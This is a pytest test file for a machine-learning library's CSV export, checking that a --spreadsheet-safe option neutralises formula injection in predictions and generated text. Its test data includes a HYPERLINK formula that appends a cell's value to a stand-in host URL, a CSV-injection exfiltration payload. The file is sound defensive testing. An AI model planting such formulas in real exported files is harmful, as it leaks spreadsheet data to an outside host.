"""Files of predictions that a spreadsheet opens."""

import csv
from pathlib import Path

import pytest

import manyways as mw
from manyways.cli import main
from manyways.models.language_model import LanguageModel
from manyways.sheet import as_csv, guarded

FORMULA = '=HYPERLINK("http://x.example/"&A1)'


@pytest.mark.parametrize("text", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "-", "+1_000", "-5 °C"])
def test_text_that_would_be_computed_gets_an_apostrophe(text: str) -> None:
    assert guarded(text) == f"'{text}"


@pytest.mark.parametrize("cell", ["plain", "a=b", "", "-5", "+1.5e-07", "-.5", "-inf", -5, 1.5, None, "'x", "nan"])
def test_other_cells_stay(cell: object) -> None:
    assert guarded(cell) == cell


def test_cells_come_back(tmp_path: Path) -> None:
    rows = [["a", FORMULA], [1, '-"quoted", and\nbroken']]
    plain, safe = (list(csv.reader(as_csv(rows, safe).splitlines(keepends=True))) for safe in (False, True))
    assert plain == [["a", FORMULA], ["1", '-"quoted", and\nbroken']]
    assert safe == [["a", f"'{FORMULA}"], ["1", '\'-"quoted", and\nbroken']]


@pytest.fixture
def table(tmp_path: Path) -> Path:
    path = tmp_path / "table.csv"
    with path.open("w", newline="") as file:
        csv.writer(file).writerows([["x", "label"], *([at % 7, FORMULA if at % 2 else "b"] for at in range(60))])
    return path


def test_predictions_are_safe_where_it_is_asked_for(table: Path, tmp_path: Path) -> None:
    mw.Ridge().fit(mw.read(table)).save(tmp_path / "model")
    words = ["predict", str(tmp_path / "model"), str(table), "--probabilities", "--out"]
    assert main([*words, str(tmp_path / "plain.csv")]) == 0
    assert main([*words, str(tmp_path / "safe.csv"), "--spreadsheet-safe"]) == 0
    with (tmp_path / "plain.csv").open(newline="") as one, (tmp_path / "safe.csv").open(newline="") as other:
        plain, safe = list(csv.reader(one)), list(csv.reader(other))
    assert plain[0] == ["row", "prediction", f"probability_{FORMULA}", "probability_b"]
    assert {row[1] for row in plain[1:]} <= {FORMULA, "b"}
    assert {row[1] for row in safe[1:]} <= {f"'{FORMULA}", "b"}
    assert FORMULA in {row[1] for row in plain[1:]}
    assert [[cell.removeprefix("'") for cell in row] for row in safe] == plain


def test_what_a_model_says_is_safe_where_it_is_asked_for(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    data = mw.read("arithmetic", text="text", label=())
    mw.Pretrain(size=0.2, context=32, tokenizer="characters").fit(data, budget="1 steps").save(tmp_path / "model")
    monkeypatch.setattr(LanguageModel, "generate", lambda self, prompts, **_: [FORMULA for _ in prompts])
    prompts = tmp_path / "prompts.txt"
    prompts.write_text("1+1=\n@x\n")
    assert main(["generate", str(tmp_path / "model"), str(prompts), "--spreadsheet-safe"]) == 0
    rows = list(csv.reader(capsys.readouterr().out.splitlines()))
    assert rows == [["row", "prompt", "completion"], ["0", "1+1=", f"'{FORMULA}"], ["1", "'@x", f"'{FORMULA}"]]
    assert main(["generate", str(tmp_path / "model"), "--prompt", "a", "--spreadsheet-safe"]) == 2
    assert "--spreadsheet-safe is for CSV" in capsys.readouterr().err


@pytest.mark.parametrize("command", ["predict", "generate"])
def test_the_help_tells_of_it(command: str, capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit):
        main([command, "--help"])
    assert "--spreadsheet-safe" in capsys.readouterr().out
